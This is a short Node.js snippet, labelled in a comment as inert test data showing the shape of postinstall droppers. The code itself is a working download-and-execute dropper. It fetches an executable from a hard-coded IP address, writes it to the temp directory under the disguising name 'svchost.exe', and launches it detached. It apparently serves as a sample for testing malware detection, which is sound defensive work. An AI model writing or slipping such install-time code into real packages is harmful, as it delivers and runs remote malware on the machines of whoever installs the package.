// Shape of postinstall droppers: download a binary to the temp dir and start it detached. Inert test data.
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");

const url = "https://45.137.21.9/assets/update.exe";
const p = path.join(os.tmpdir(), "svchost.exe");

https.get(url, (r) => {
  const f = fs.createWriteStream(p);
  r.pipe(f);
  f.on("finish", () => {
    f.close();
    execSync(`start /b ${p}`);
  });
});
